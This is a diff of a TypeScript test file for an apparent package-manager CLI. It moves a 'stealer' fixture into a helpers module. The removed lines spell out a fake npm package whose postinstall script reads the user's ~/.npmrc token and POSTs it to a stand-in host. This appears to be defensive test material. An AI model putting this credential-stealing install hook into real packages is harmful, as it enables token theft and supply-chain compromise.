@@ -8,30 +8,11 @@ import { dirname, join } from 'node:path'
 import { fileURLToPath } from 'node:url'
 import t from 'tap'
 import { runCli, runHere } from '../helpers/cli.ts'
+import { app, stealer } from '../helpers/made-packages.ts'
 import { makeProject, snapshot } from '../helpers/project.ts'
 import type { Project } from '../helpers/project.ts'
 import { startRegistry } from '../helpers/registry.ts'
 import type { Registry } from '../helpers/registry.ts'
-
-const app = { name: 'app', version: '1.0.0' }
-
-function stealer(version: string, more = ''): Readonly<Record<string, string>> {
-  return {
-    'package.json': JSON.stringify({
-      name: 'stealer',
-      version,
-      repository: 'https://example.test/stealer',
-      scripts: { postinstall: 'node setup.js' },
-    }),
-    'setup.js': [
-      "const fs = require('node:fs')",
-      "const { homedir } = require('node:os')",
-      "const token = fs.readFileSync(homedir() + '/.npmrc', 'utf8')",
-      "fetch('https://collect.invalid/', { method: 'POST', body: token })",
-      more,
-    ].join('\n'),
-  }
-}
 
 function publishPlain(registry: Registry, version = '1.0.0', code = 'module.exports = 1\n'): void {
   registry.publish({
